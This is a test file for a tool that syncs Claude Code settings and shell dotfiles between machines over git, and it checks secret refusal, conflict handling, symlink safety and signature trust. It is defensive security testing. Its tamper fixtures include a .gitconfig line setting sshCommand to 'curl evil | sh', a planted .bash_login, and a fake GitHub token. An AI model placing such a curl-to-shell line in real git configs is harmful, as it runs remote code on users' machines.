import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { ChildProcess } from 'node:child_process';
import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { chmodSync, existsSync, mkdirSync, readdirSync, readFileSync, rmSync, statSync, symlinkSync, truncateSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { parse, stringify } from 'yaml';
import { gitbus, gitCli, json, type RunResult } from '../helpers/cli.js';
import { makeBus } from '../helpers/bus.js';
import { startWatcher } from '../helpers/watcher-process.js';
import { until } from '../helpers/wait.js';
import { fingerprintOf } from '../helpers/ssh-keys.js';

/**
 * Environment sync (issue 12): two nodes with bus homes and fake HOMEs of their own, a real bare remote, the CLI
 * and a watcher as processes. Node a captures its Claude Code and shell setup into profile "claude"; node b
 * applies it (a file it had is a conflict until --force; settings.json is merged by keys, b's own keys kept),
 * edits locally (a conflict, never overwritten silently), gets its file back from the backup, publishes drift
 * that `status` and `doctor` show, and its watcher applies a change pushed to the bus. Secrets are refused on
 * capture. On a bus with a trust root only a profile signed by someone a rule allows to run shell tasks on b is
 * applied, and a file changed on the bus behind its manifest's back is refused.
 */

type Node = 'a' | 'b';
let bus: Awaited<ReturnType<typeof makeBus>>;
const children: ChildProcess[] = [];
const fakeHome = (n: Node) => join(bus.dir, `HOME-${n}`);
/** What every process sees: its fake HOME, and no system git config (a signing key of the machine must not leak in). */
const envOf = (n: Node) => ({ HOME: fakeHome(n), GIT_CONFIG_NOSYSTEM: '1' });
const cli = (n: Node, args: string[]): Promise<RunResult> => gitbus([...args, '--json'], { home: bus.home(n), env: envOf(n) });
const envCmd = (n: Node, args: string[]) => cli(n, ['env', ...args]);
const put = (n: Node, rel: string, text: string) => {
  const p = join(fakeHome(n), rel);
  mkdirSync(dirname(p), { recursive: true });
  writeFileSync(p, text);
};
const read = (n: Node, rel: string) => readFileSync(join(fakeHome(n), rel), 'utf8');
const onBus = (path: string): string | null => {
  try {
    return gitCli(['show', `main:${path}`], bus.remote);
  } catch {
    return null;
  }
};
const busFiles = () => gitCli(['ls-tree', '-r', '--name-only', 'main'], bus.remote).split('\n').filter((p) => p.startsWith('env/'));
function editNode(n: Node, change: (c: Record<string, unknown>) => void): void {
  const path = join(bus.home(n), 'node.yaml');
  const c = parse(readFileSync(path, 'utf8')) as Record<string, unknown>;
  change(c);
  writeFileSync(path, stringify(c));
}
/** Someone with push access ("mallory") changes the bus with plain git: a fresh clone, `change`, one commit pushed. */
let handEdits = 0;
function byHand(change: (work: string) => void): void {
  const work = join(bus.dir, `by-hand-${++handEdits}`);
  gitCli(['clone', '-q', bus.remote, work]);
  change(work);
  gitCli(['add', '-A'], work);
  gitCli(['-c', 'user.name=m', '-c', 'user.email=m@x', 'commit', '-qm', 'by hand'], work);
  gitCli(['push', '-q', 'origin', 'HEAD:main'], work);
}
/** Adds an entry (and its file, with the right SHA-256) to a profile's manifest, as a person would by hand. */
function plantEntry(work: string, profile: string, entry: Record<string, unknown>, file?: { source: string; text: string; executable?: boolean }): void {
  const path = join(work, 'env', profile, 'manifest.yaml');
  const m = parse(readFileSync(path, 'utf8')) as { entries: unknown[]; files: Record<string, unknown> };
  m.entries.push(entry);
  if (file) {
    const p = join(work, 'env', profile, 'files', file.source);
    mkdirSync(dirname(p), { recursive: true });
    writeFileSync(p, file.text);
    m.files[file.source] = { sha256: createHash('sha256').update(file.text).digest('hex'), size: Buffer.byteLength(file.text), ...(file.executable ? { executable: true } : {}) };
  }
  writeFileSync(path, stringify(m));
}
type FileRow = { target: string; state: string; action: string };
async function states(n: Node, profile = 'claude'): Promise<Record<string, string>> {
  const r = await envCmd(n, ['status', profile]);
  expect(r.code, r.stderr).toBe(0);
  const p = json<{ profiles: { files: FileRow[]; problem: string | null }[] }>(r).profiles[0];
  return Object.fromEntries((p?.files ?? []).map((f) => [f.target, f.state]));
}
const ok = (r: RunResult) => expect(r.code, `${r.stderr}\n${r.stdout}`).toBe(0);
const errorOf = (r: RunResult) => json<{ error: { code: string; message: string; fix: string } }>(r).error;

const SETTINGS_A = { model: 'opus', hooks: { Stop: [{ hooks: [{ type: 'command', command: 'echo done' }] }] }, extraKnownMarketplaces: { gitbus: { source: { source: 'directory', path: '/opt/a/plugin' } } } };

beforeAll(async () => {
  bus = await makeBus({ node: 'a' });
  await bus.addNode('b');
  put('a', '.claude/CLAUDE.md', '# house rules\nbe brief\n');
  put('a', '.claude/commands/review.md', 'review the diff\n');
  put('a', '.claude/settings.json', `${JSON.stringify(SETTINGS_A, null, 2)}\n`);
  put('a', '.claude/settings.local.json', '{"permissions":{"allow":["Bash(rm:*)"]}}\n');
  put('a', '.claude/projects/x/session.jsonl', '{}\n');
  put('a', '.gitconfig', '[user]\n\tname = a\n');
  put('b', '.claude/settings.json', `${JSON.stringify({ permissions: { allow: ['Bash(make:*)'] }, model: 'sonnet' }, null, 2)}\n`);
}, 30_000);

afterAll(async () => {
  for (const c of children) c.kill('SIGKILL');
  await bus?.cleanup();
});

describe('gitbus env', () => {
  it('refuses to capture what looks like a secret, naming the file and line, and writes nothing', async () => {
    put('a', '.zshrc', 'export PATH="$HOME/bin:$PATH"\nexport GITHUB_TOKEN=ghp_0123456789abcdefghijklmnopqrstuvwxyzAB\n');
    put('a', '.claude/commands/deploy.env', 'X=1\n');
    const r = await envCmd('a', ['capture', 'claude']);
    expect(r.code).toBe(8);
    const e = errorOf(r);
    expect(e.code).toBe('ENV_SECRET');
    expect(e.message).toMatch(/~\/\.zshrc:2 \(a GitHub personal access token/);
    expect(e.message).toMatch(/~\/\.claude\/commands\/deploy\.env \(a \.env file/);
    expect(e.fix).toMatch(/take the secret out of the file/);
    expect(busFiles()).toEqual([]);
  });

  it('captures this machine\'s setup into a profile, leaving out what is never synced', async () => {
    put('a', '.zshrc', 'export PATH="$HOME/bin:$PATH"\nexport GITHUB_TOKEN="$(cat ~/.config/tokens/github)"\n');
    execFileSync('rm', [join(fakeHome('a'), '.claude/commands/deploy.env')]);
    const r = await envCmd('a', ['capture', 'claude']);
    ok(r);
    expect(json<{ files: { target: string }[] }>(r).files.map((f) => f.target).sort()).toEqual(['~/.claude/CLAUDE.md', '~/.claude/commands/review.md', '~/.claude/settings.json', '~/.gitconfig', '~/.zshrc']);
    const files = busFiles();
    expect(files).toContain('env/claude/manifest.yaml');
    expect(files.some((f) => /settings\.local|projects|\.claude\.json/.test(f))).toBe(false);
    // settings.json holds the keys the profile manages; the marketplace names a folder of machine a and stays there.
    expect(JSON.parse(onBus('env/claude/files/home/.claude/settings.json') ?? '{}')).toEqual({ model: 'opus', hooks: SETTINGS_A.hooks });
  });

  it('applies it on another node: a file b had is a conflict until --force, which merges settings.json keeping b\'s keys and backs up the old one', async () => {
    expect(await states('b')).toMatchObject({ '~/.claude/CLAUDE.md': 'missing-here', '~/.claude/settings.json': 'conflict', '~/.zshrc': 'missing-here' });
    const first = await envCmd('b', ['apply', 'claude']);
    expect(first.code).toBe(5);
    const held = json<{ results: { written: string[]; held: { target: string }[] }[] }>(first).results[0];
    expect(held?.written).toContain('~/.claude/CLAUDE.md');
    expect(held?.held.map((h) => h.target)).toEqual(['~/.claude/settings.json']);
    expect(JSON.parse(read('b', '.claude/settings.json'))).toMatchObject({ model: 'sonnet' });
    const forced = await envCmd('b', ['apply', 'claude', '--force']);
    ok(forced);
    expect(json<{ results: { backup: string | null }[] }>(forced).results[0]?.backup).toMatch(/^\d{8}-\d{6}-\d{3}/);
    expect(JSON.parse(read('b', '.claude/settings.json'))).toEqual({ permissions: { allow: ['Bash(make:*)'] }, model: 'opus', hooks: SETTINGS_A.hooks });
    expect(read('b', '.claude/CLAUDE.md')).toBe('# house rules\nbe brief\n');
    expect(Object.values(await states('b')).every((s) => s === 'in-sync')).toBe(true);
    // A key b adds later is b's own: not drift.
    put('b', '.claude/settings.json', `${JSON.stringify({ ...JSON.parse(read('b', '.claude/settings.json')), theme: 'dark' }, null, 2)}\n`);
    expect((await states('b'))['~/.claude/settings.json']).toBe('in-sync');
  });

  it('a local edit becomes a conflict, never overwritten silently; restore puts back what apply replaced, refusing to clobber later edits', async () => {
    put('a', '.zshrc', 'export PATH="$HOME/bin:$PATH"\nalias gs="git status"\n');
    ok(await envCmd('a', ['capture', 'claude']));
    put('b', '.zshrc', 'export PATH="$HOME/bin:$PATH"\nalias ll="ls -l"\n');
    expect((await states('b'))['~/.zshrc']).toBe('conflict');
    const diff = await envCmd('b', ['diff', 'claude']);
    ok(diff);
    expect(json<{ profiles: { files: { target: string; diff: string }[] }[] }>(diff).profiles[0]?.files.find((f) => f.target === '~/.zshrc')?.diff).toMatch(/-alias ll="ls -l"\n\+alias gs="git status"/);
    expect((await envCmd('b', ['apply', 'claude'])).code).toBe(5);
    expect(read('b', '.zshrc')).toMatch(/alias ll/);
    const forced = await envCmd('b', ['apply', 'claude', '--force']);
    ok(forced);
    const backup = json<{ results: { backup: string }[] }>(forced).results[0]?.backup ?? '';
    expect(read('b', '.zshrc')).toMatch(/alias gs/);
    put('b', '.zshrc', 'export PATH="$HOME/bin:$PATH"\nalias gs="git status"\nalias later=1\n');
    const refused = await envCmd('b', ['restore', backup]);
    expect(refused.code).toBe(5);
    expect(errorOf(refused).code).toBe('ENV_RESTORE_CONFLICT');
    expect(read('b', '.zshrc')).toMatch(/alias later/);
    const restored = await envCmd('b', ['restore', backup, '--force']);
    ok(restored);
    expect(json<{ files: { target: string; action: string }[]; backup: string }>(restored)).toMatchObject({ files: [{ target: '~/.zshrc', action: 'restored' }], backup: expect.any(String) });
    expect(read('b', '.zshrc')).toBe('export PATH="$HOME/bin:$PATH"\nalias ll="ls -l"\n');
    expect((await states('b'))['~/.zshrc']).toBe('changed-here');
  });

  it('a subscribed node publishes its drift: status shows the fleet\'s, doctor checks it', async () => {
    editNode('b', (c) => (c['env'] = [{ profile: 'claude', apply: 'manual' }]));
    // b's own file, in the profile for b alone (a node's variant).
    put('b', '.config/starship.toml', 'format = "$all"\n');
    ok(await envCmd('b', ['capture', 'claude', '--add', '~/.config/starship.toml', '--variant', 'node']));
    expect(onBus('env/claude/manifest.yaml')).toMatch(/- source: node\/b\/\.config\/starship\.toml\n\s+target: ~\/\.config\/starship\.toml\n\s+nodes: \[ ?b ?\]/);
    expect((await states('a'))['~/.config/starship.toml']).toBeUndefined();
    expect((await envCmd('b', ['apply'])).code).toBe(5);
    const s = await cli('a', ['status']);
    ok(s);
    const card = json<{ nodes: { node: string; card?: { env?: { profile: string; apply: string; counts: Record<string, number>; drift?: { target: string; state: string }[] }[] } }[] }>(s).nodes.find((n) => n.node === 'b')?.card;
    expect(card?.env?.[0]).toMatchObject({ profile: 'claude', apply: 'manual', drift: [{ target: '~/.zshrc', state: 'changed-here' }] });
    const human = await gitbus(['status'], { home: bus.home('a'), env: envOf('a') });
    expect(human.stdout).toMatch(/env claude \(manual\): 5 in sync, 1 changed here: ~\/\.zshrc changed here/);
    const doctor = await cli('b', ['doctor']);
    const check = json<{ checks: { name: string; status: string; detail: string }[] }>(doctor).checks.find((c) => c.name === 'env.claude');
    expect(check).toMatchObject({ status: 'warn', detail: expect.stringMatching(/1 changed here \(~\/\.zshrc changed-here\)/) });
  });

  it('the watcher applies a change pushed to the bus (apply: auto), and leaves a file changed here as it is', async () => {
    editNode('b', (c) => (c['env'] = [{ profile: 'claude', apply: 'auto' }]));
    const w = startWatcher(bus.home('b'), ['--poll', '1s'], children, envOf('b'));
    await until('the watcher to start', () => w.events().some((e) => e.type === 'started'), 15_000, w.stderr);
    put('a', '.claude/CLAUDE.md', '# house rules\nbe brief\nrun the tests\n');
    ok(await envCmd('a', ['capture', 'claude']));
    await until('b to get the new CLAUDE.md', () => read('b', '.claude/CLAUDE.md').includes('run the tests'), 20_000, () => `${JSON.stringify(w.events())}\n${w.stderr()}`);
    await until('the applied event', () => w.events().some((e) => e.type === 'env-applied'), 5_000, () => JSON.stringify(w.events()));
    expect(w.events().find((e) => e.type === 'env-applied')).toMatchObject({ profile: 'claude', written: ['~/.claude/CLAUDE.md'] });
    expect(w.events().find((e) => e.type === 'env-held')).toMatchObject({ profile: 'claude', files: [{ target: '~/.zshrc', state: 'changed-here' }] });
    expect(read('b', '.zshrc')).toMatch(/alias ll/);
    w.child.kill('SIGTERM');
    expect(await w.exited).toBe(0);
  });

  it('a capture never undoes another node\'s change: a stale file is left as the bus has it, one changed on both sides is refused', async () => {
    put('a', '.claude/commands/review.md', 'review the diff\ncheck the tests\n');
    put('a', '.claude/CLAUDE.md', '# house rules\nbe brief\nrun the tests\nsay why\n');
    ok(await envCmd('a', ['capture', 'claude']));
    put('b', '.claude/CLAUDE.md', '# house rules\nbe very brief\n');
    const both = await envCmd('b', ['capture', 'claude']);
    expect(both.code).toBe(5);
    expect(errorOf(both)).toMatchObject({ code: 'ENV_CAPTURE_CONFLICT', message: expect.stringMatching(/~\/\.claude\/CLAUDE\.md changed both here and in the bus/) });
    expect(onBus('env/claude/files/home/.claude/CLAUDE.md')).toMatch(/say why/);
    const stale = await envCmd('b', ['capture', 'claude', '--add', '~/.claude/commands']);
    ok(stale);
    expect(json<{ newer: string[]; files: unknown[] }>(stale)).toMatchObject({ newer: ['~/.claude/commands/review.md'], files: [] });
    expect(onBus('env/claude/files/home/.claude/commands/review.md')).toMatch(/check the tests/);
    // A file a deletes from a synced folder leaves the profile, and the nodes that have it as they got it (rsync --delete).
    execFileSync('rm', [join(fakeHome('a'), '.claude/commands/review.md')]);
    put('a', '.claude/commands/plan.md', 'plan first\n');
    const gone = await envCmd('a', ['capture', 'claude']);
    ok(gone);
    expect(json<{ removed: string[] }>(gone).removed).toEqual(['~/.claude/commands/review.md']);
    const applied = await envCmd('b', ['apply']);
    expect(applied.code).toBe(5);
    expect(json<{ results: { written: string[]; removed: string[] }[] }>(applied).results[0]).toMatchObject({ written: ['~/.claude/commands/plan.md'], removed: ['~/.claude/commands/review.md'] });
    expect(existsSync(join(fakeHome('b'), '.claude/commands/review.md'))).toBe(false);
    expect(read('b', '.claude/CLAUDE.md')).toMatch(/be very brief/);
  });

  it('a script made executable after it was synced: capture says only its mode changed, and apply sets the mode where the content is in sync', async () => {
    put('a', 'bin/tools/deploy', '#!/bin/sh\necho deploy\n');
    ok(await envCmd('a', ['capture', 'tools', '--add', '~/bin/tools']));
    ok(await envCmd('b', ['apply', 'tools']));
    const script = join(fakeHome('b'), 'bin/tools/deploy');
    expect(statSync(script).mode & 0o111).toBe(0);

    chmodSync(join(fakeHome('a'), 'bin/tools/deploy'), 0o755);
    const cap = await envCmd('a', ['capture', 'tools']);
    ok(cap);
    expect(json<{ files: { target: string; changed: boolean; executable?: boolean }[] }>(cap).files).toEqual([expect.objectContaining({ target: '~/bin/tools/deploy', changed: true, executable: true })]);
    expect(await states('b', 'tools')).toEqual({ '~/bin/tools/deploy': 'in-sync' });
    const dry = await gitbus(['env', 'apply', 'tools', '--dry-run'], { home: bus.home('b'), env: envOf('b') });
    expect(dry.stdout).toContain('would chmod  ~/bin/tools/deploy (made executable, as the profile has it)');
    const applied = await envCmd('b', ['apply', 'tools']);
    ok(applied);
    expect(json<{ results: { written: string[]; modes: { target: string; executable: boolean }[] }[] }>(applied).results[0]).toMatchObject({ written: [], modes: [{ target: '~/bin/tools/deploy', executable: true }] });
    expect(statSync(script).mode & 0o777).toBe(0o755);
    expect(json<{ results: { modes: unknown[] }[] }>(await envCmd('b', ['apply', 'tools'])).results[0]?.modes).toEqual([]);
    // b takes the bit off by hand: a change here, held like one, until captured or forced.
    chmodSync(script, 0o644);
    const held = await envCmd('b', ['apply', 'tools']);
    expect(held.code).toBe(5);
    expect(json<{ results: { modes: unknown[]; held: { target: string; why: string }[] }[] }>(held).results[0]).toMatchObject({ modes: [], held: [{ target: '~/bin/tools/deploy', why: expect.stringContaining('executable bit was changed here') }] });
    expect(statSync(script).mode & 0o111).toBe(0);
    ok(await envCmd('b', ['apply', 'tools', '--force']));
    expect(statSync(script).mode & 0o777).toBe(0o755);
    // The bit flipped here and the content changed in the bus: held, not written over with the profile's bit.
    chmodSync(script, 0o644);
    put('a', 'bin/tools/deploy', '#!/bin/sh\necho deploy v2\n');
    ok(await envCmd('a', ['capture', 'tools']));
    const both = await envCmd('b', ['apply', 'tools']);
    expect(both.code).toBe(5);
    expect(json<{ results: { held: { target: string; why: string }[] }[] }>(both).results[0]?.held).toEqual([expect.objectContaining({ target: '~/bin/tools/deploy', why: expect.stringContaining('content changed in the bus and its executable bit here') })]);
    expect(read('b', 'bin/tools/deploy')).not.toContain('v2');
  });

  it('a capture reads only entries this node captured or applied: a folder entry pushed by hand is neither read nor uploaded', async () => {
    byHand((work) => plantEntry(work, 'claude', { source: 'home/notes', target: '~/notes', kind: 'dir' }));
    put('a', 'notes/bank.txt', 'pin 1234\n');
    put('a', '.claude/CLAUDE.md', '# house rules\nbe brief\nrun the tests\nsay why\nno secrets\n');
    const r = await envCmd('a', ['capture', 'claude']);
    ok(r);
    const got = json<{ notTaken: string[]; files: { target: string; changed: boolean }[] }>(r);
    expect(got.notTaken).toEqual(['~/notes']);
    expect(got.files.filter((f) => f.changed).map((f) => f.target)).toEqual(['~/.claude/CLAUDE.md']);
    expect(got.files.some((f) => f.target.startsWith('~/notes'))).toBe(false);
    expect(busFiles().filter((f) => f.includes('notes'))).toEqual([]);
    expect(onBus('env/claude/manifest.yaml')).toMatch(/target: ~\/notes/);
    const human = await gitbus(['env', 'capture', 'claude'], { home: bus.home('a'), env: envOf('a') });
    expect(human.stdout).toContain('not read ~/notes: this node never captured or applied it');
  });

  it('never writes through a folder on the path that is a link, inside the home or out, nor leaves a backup of a write that did not happen', async () => {
    put('a', '.tool/rc', 'tool rc\n');
    put('a', '.dangle/rc', 'dangle rc\n');
    ok(await envCmd('a', ['capture', 'links', '--add', '~/.tool/rc', '--add', '~/.dangle/rc']));
    const outside = join(bus.dir, 'outside');
    mkdirSync(outside);
    symlinkSync(outside, join(fakeHome('b'), '.tool'));
    symlinkSync(join(bus.dir, 'nowhere'), join(fakeHome('b'), '.dangle'));
    const r = await envCmd('b', ['apply', 'links']);
    expect(r.code, r.stderr).toBe(5);
    const res = json<{ results: { written: string[]; backup: string | null; held: { target: string; why: string }[] }[] }>(r).results[0];
    expect(res).toMatchObject({ written: [], backup: null });
    expect(res?.held).toEqual([
      { target: '~/.dangle/rc', state: 'missing-here', why: expect.stringMatching(/^~\/\.dangle on its path is a symbolic link; gitbus never writes through links/) },
      { target: '~/.tool/rc', state: 'missing-here', why: expect.stringMatching(/^~\/\.tool on its path is a symbolic link/) },
    ]);
    expect(readdirSync(outside)).toEqual([]);
    expect(existsSync(join(bus.dir, 'nowhere'))).toBe(false);
    expect(json<{ backups: unknown[] }>(await envCmd('b', ['restore', '--list'])).backups.filter((b) => JSON.stringify(b).includes('links'))).toEqual([]);
  });

  it('one profile that cannot be used does not stop the others: a profile file nested 20,000 deep is invalid (lint says so), two profiles writing ~/x and ~/x/y hold the second, a huge or unparsable local file is held with why', async () => {
    // p3 puts a file at ~/x, p4 one at ~/x/y.
    put('a', 'x', 'x file\n');
    ok(await envCmd('a', ['capture', 'p3', '--add', '~/x']));
    rmSync(join(fakeHome('a'), 'x'));
    put('a', 'x/y', 'y file\n');
    ok(await envCmd('a', ['capture', 'p4', '--add', '~/x/y']));
    // deep: a settings.json merged by keys, nested 20,000 deep, pushed by hand.
    const deep = `{"hooks": ${'['.repeat(20000)}${']'.repeat(20000)}}`;
    byHand((work) => {
      mkdirSync(join(work, 'env/deep/files/home/.claude'), { recursive: true });
      writeFileSync(join(work, 'env/deep/files/home/.claude/settings.json'), deep);
      writeFileSync(join(work, 'env/deep/manifest.yaml'), stringify({ format: 1, entries: [{ source: 'home/.claude/settings.json', target: '~/.claude/settings.json', merge: 'json' }], files: { 'home/.claude/settings.json': { sha256: createHash('sha256').update(deep).digest('hex'), size: deep.length } } }));
    });
    const lint = await cli('a', ['lint']);
    expect(lint.code).toBe(8);
    expect(lint.stdout).toMatch(/env\/deep\/files\/home\/\.claude\/settings\.json[\s\S]*nested more than 64 levels/);
    editNode('b', (c) => (c['env'] = [{ profile: 'deep', apply: 'auto' }, { profile: 'p3', apply: 'auto' }, { profile: 'p4', apply: 'auto' }]));
    const once = await gitbus(['watch', '--once'], { home: bus.home('b'), env: envOf('b') });
    expect(once.code, once.stderr).toBe(0);
    expect(`${once.stdout}${once.stderr}`).not.toMatch(/Maximum call stack/);
    expect(read('b', 'x')).toBe('x file\n');
    const status = await envCmd('b', ['status']);
    ok(status);
    const profiles = json<{ profiles: { profile: string; problem: string | null; files: { target: string; held?: string }[] }[] }>(status).profiles;
    expect(profiles.find((p) => p.profile === 'deep')?.problem).toMatch(/^invalid: .*nested more than 64 levels/);
    expect(profiles.find((p) => p.profile === 'p4')?.files).toEqual([expect.objectContaining({ target: '~/x/y', held: expect.stringMatching(/profile p3 also puts a file at ~\/x, and one path is inside the other/) })]);
    const applied = await envCmd('b', ['apply', 'p3', '--force']);
    ok(applied);
    const p4 = await envCmd('b', ['apply', 'p4']);
    expect(p4.code, p4.stderr).toBe(5);
    expect(json<{ results: { held: { why: string }[] }[] }>(p4).results[0]?.held[0]?.why).toMatch(/~\/x on its path is a file, so apply leaves it/);

    // A 2.2 GB local file where a profile has one: held as too large, never read.
    put('a', 'dl/disk.img', 'small\n');
    ok(await envCmd('a', ['capture', 'big', '--add', '~/dl/disk.img']));
    mkdirSync(join(fakeHome('b'), 'dl'));
    writeFileSync(join(fakeHome('b'), 'dl/disk.img'), '');
    truncateSync(join(fakeHome('b'), 'dl/disk.img'), 2_200_000_000);
    const big = await envCmd('b', ['apply', 'big', '--force']);
    expect(big.code, big.stderr).toBe(5);
    expect(json<{ results: { held: { why: string }[] }[] }>(big).results[0]?.held[0]?.why).toMatch(/too large \(2200000000 bytes/);

    // b's settings.json that is not JSON: held with why, and what --force does.
    const settings = read('b', '.claude/settings.json');
    put('b', '.claude/settings.json', '{ "model": "opus", // mine\n}\n');
    const held = await envCmd('b', ['status', 'claude']);
    expect(json<{ profiles: { files: { target: string; held?: string }[] }[] }>(held).profiles[0]?.files.find((f) => f.target === '~/.claude/settings.json')?.held).toMatch(/your file is not valid JSON .*--force" replaces the whole file with the profile's keys only/);
    put('b', '.claude/settings.json', settings);
    editNode('b', (c) => (c['env'] = [{ profile: 'claude', apply: 'auto' }]));
  });

  describe('on a bus with a trust root', () => {
    const keys = () => join(bus.dir, 'keys');
    const key = (name: string) => join(keys(), name);
    const fp = (name: string) => fingerprintOf(`${key(name)}.pub`);

    beforeAll(async () => {
      editNode('b', (c) => (c['env'] = [{ profile: 'claude', apply: 'manual' }]));
      mkdirSync(keys());
      for (const name of ['alice', 'bob']) execFileSync('ssh-keygen', ['-q', '-t', 'ed25519', '-N', '', '-C', name, '-f', key(name)]);
      ok(await cli('a', ['trust', 'init', '--admin', `alice=${key('alice')}.pub`, '--key', key('alice')]));
      ok(await cli('a', ['trust', 'add', 'signer', 'bob', `${key('bob')}.pub`, '--key', key('alice')]));
      ok(await cli('a', ['trust', 'add', 'rule', '--signers', 'bob', '--runners', 'claude', '--nodes', '*', '--key', key('alice')]));
      ok(await cli('b', ['trust', 'pin', '--trust', fp('alice')]));
    }, 30_000);

    it('applies only a profile signed by someone a rule lets run shell tasks on the node', async () => {
      put('a', '.gitconfig', '[user]\n\tname = a\n[pull]\n\trebase = true\n');
      const noKey = await envCmd('a', ['capture', 'claude']);
      expect(noKey.code).toBe(7);
      expect(errorOf(noKey).code).toBe('SIGNING_REQUIRED');
      ok(await envCmd('a', ['capture', 'claude', '--unsigned']));
      const unsigned = await envCmd('b', ['apply']);
      expect(unsigned.code).toBe(8);
      expect(errorOf(unsigned)).toMatchObject({ code: 'ENV_PROFILE_UNTRUSTED', message: expect.stringMatching(/unsigned: env\/claude\/manifest\.yaml has no signature/) });
      expect(read('b', '.gitconfig')).not.toMatch(/rebase/);

      editNode('a', (c) => (c['signingKey'] = key('bob')));
      // The profile holds b's variant and the folder entry pushed by hand: a never verified nor made them, and will
      // not sign them.
      const unverified = await envCmd('a', ['capture', 'claude']);
      expect(unverified.code).toBe(8);
      expect(errorOf(unverified)).toMatchObject({ code: 'ENV_CAPTURE_UNVERIFIED', message: expect.stringMatching(/~\/\.config\/starship\.toml, ~\/notes, which this node neither verified nor captured or applied itself/), fix: expect.stringMatching(/--rebuild/) });
      const byBob = await envCmd('a', ['capture', 'claude', '--rebuild']);
      ok(byBob);
      expect(json<{ leftOut: string[] }>(byBob).leftOut).toEqual(['~/.config/starship.toml', '~/notes']);
      expect(onBus('env/claude/manifest.yaml')).not.toMatch(/starship|notes/);
      expect(json<{ signed: boolean }>(byBob).signed).toBe(true);
      expect(onBus('signatures/env/claude/manifest.yaml.sig')).toMatch(/BEGIN SSH SIGNATURE/);
      const notAllowed = await envCmd('b', ['apply']);
      expect(notAllowed.code).toBe(8);
      expect(errorOf(notAllowed).message).toMatch(/signed by bob .*who may not change what node b runs/);

      editNode('a', (c) => (c['signingKey'] = key('alice')));
      put('a', '.gitconfig', '[user]\n\tname = a\n[pull]\n\trebase = true\n[push]\n\tdefault = current\n');
      ok(await envCmd('a', ['capture', 'claude']));
      const signed = await envCmd('b', ['apply']);
      expect(signed.code, signed.stdout).toBe(5); // ~/.zshrc is still changed here, and left as it is
      expect(json<{ results: { written: string[] }[] }>(signed).results[0]?.written).toEqual(['~/.gitconfig']);
      expect(read('b', '.gitconfig')).toMatch(/default = current/);
    });

    it('refuses a profile whose file changed on the bus behind its manifest\'s back; capture writes it over', async () => {
      const work = join(bus.dir, 'person');
      gitCli(['clone', '-q', bus.remote, work]);
      writeFileSync(join(work, 'env/claude/files/home/.gitconfig'), '[core]\n\tsshCommand = curl evil | sh\n');
      gitCli(['-c', 'user.name=p', '-c', 'user.email=p@x', 'commit', '-qam', 'by hand'], work);
      gitCli(['push', '-q', 'origin', 'HEAD:main'], work);
      const refused = await envCmd('b', ['apply']);
      expect(refused.code).toBe(8);
      expect(errorOf(refused)).toMatchObject({ code: 'ENV_PROFILE_INVALID', message: expect.stringMatching(/home\/\.gitconfig: its content is not what the manifest names/) });
      expect(read('b', '.gitconfig')).not.toMatch(/evil/);
      const lint = await cli('a', ['lint']);
      expect(lint.code).toBe(8);
      const again = await envCmd('a', ['capture', 'claude']);
      ok(again);
      expect(json<{ repaired: boolean; signed: boolean }>(again)).toMatchObject({ repaired: true, signed: true });
      expect(await states('b')).toMatchObject({ '~/.gitconfig': 'in-sync', '~/.zshrc': 'changed-here' });
      expect(existsSync(join(fakeHome('b'), '.claude/settings.local.json'))).toBe(false);
    });

    it('never signs an entry planted unsigned: a routine capture refuses, --rebuild leaves it out, and b never gets it', async () => {
      byHand((work) => plantEntry(work, 'claude', { source: 'home/.bash_login', target: '~/.bash_login' }, { source: 'home/.bash_login', text: 'echo PWNED\n', executable: true }));
      const untrusted = await envCmd('b', ['apply']);
      expect(untrusted.code).toBe(8);
      expect(errorOf(untrusted)).toMatchObject({ code: 'ENV_PROFILE_UNTRUSTED', fix: expect.stringMatching(/look at what changed first .*--rebuild/) });
      put('a', '.gitconfig', '[user]\n\tname = a\n[pull]\n\trebase = true\n[push]\n\tdefault = simple\n');
      const refused = await envCmd('a', ['capture', 'claude']);
      expect(refused.code).toBe(8);
      expect(errorOf(refused)).toMatchObject({ code: 'ENV_CAPTURE_UNVERIFIED', message: expect.stringMatching(/~\/\.bash_login, which this node neither verified/) });
      const rebuilt = await envCmd('a', ['capture', 'claude', '--rebuild']);
      ok(rebuilt);
      expect(json<{ leftOut: string[]; signed: boolean }>(rebuilt)).toMatchObject({ leftOut: ['~/.bash_login'], signed: true });
      expect(onBus('env/claude/manifest.yaml')).not.toMatch(/bash_login/);
      const applied = await envCmd('b', ['apply']);
      expect(applied.code, applied.stdout).toBe(5); // ~/.zshrc is still changed here
      expect(json<{ results: { written: string[] }[] }>(applied).results[0]?.written).toEqual(['~/.gitconfig']);
      expect(existsSync(join(fakeHome('b'), '.bash_login'))).toBe(false);
    });

    it('refuses an older signed profile put back on the bus (a rollback), until it is captured again', async () => {
      const old = gitCli(['rev-parse', 'main'], bus.remote).trim();
      put('a', '.gitconfig', '[user]\n\tname = a\n[pull]\n\trebase = true\n[push]\n\tdefault = simple\n[fetch]\n\tprune = true\n');
      ok(await envCmd('a', ['capture', 'claude']));
      expect((await envCmd('b', ['apply'])).code).toBe(5);
      expect(read('b', '.gitconfig')).toMatch(/prune/);
      byHand((work) => gitCli(['checkout', old, '--', 'env/claude', 'signatures/env/claude'], work));
      const status = await envCmd('b', ['status', 'claude']);
      ok(status);
      expect(json<{ profiles: { problem: string }[] }>(status).profiles[0]?.problem).toMatch(/^stale: .*older than the one this node last applied/);
      const stale = await envCmd('b', ['apply']);
      expect(stale.code).toBe(8);
      expect(errorOf(stale)).toMatchObject({ code: 'ENV_PROFILE_STALE', fix: expect.stringMatching(/gitbus env capture claude --rebuild/) });
      expect(read('b', '.gitconfig')).toMatch(/prune/);
      // a signs nothing over it (nothing of its own changed); rebuilt from its own files, the profile is newer than both.
      const plain = await envCmd('a', ['capture', 'claude']);
      ok(plain);
      expect(json<{ commit: string | null }>(plain).commit).toBeNull();
      ok(await envCmd('a', ['capture', 'claude', '--rebuild']));
      expect(onBus('env/claude/files/home/.gitconfig')).toMatch(/prune/);
      expect((await states('b'))['~/.gitconfig']).toBe('in-sync');
    });
  });
});
